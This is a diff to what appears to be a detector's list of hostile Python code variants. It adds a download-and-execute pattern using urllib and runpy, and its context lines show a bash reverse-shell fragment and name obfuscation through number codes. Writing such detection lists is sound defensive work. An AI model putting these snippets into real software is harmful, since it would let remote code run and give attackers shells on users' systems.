@@ -27,6 +27,13 @@ export const VARIANTS_TO_FIND: readonly ToFind[] = [
     'p = subprocess.Popen(["/bin/bash"], stdin=-1, stdout=-1)',
     'threading.Thread(target=feed, args=(s, p)).start()',
   )],
+  ['runs_downloaded_code', 'a file by the name of its path', lines(
+    'import runpy, urllib.request',
+    'def run(name):',
+    '    path = folder() + name',
+    '    urllib.request.urlretrieve(address(name), path)',
+    '    runpy.run_path(path)',
+  )],
   ['hides_names', 'letters of a dict of numbers', lines(
     'import importlib',
     'WORDS = {"load": (115, 117, 98, 112, 114, 111, 99, 101, 115, 115), "act": [80, 111, 112, 101, 110]}',
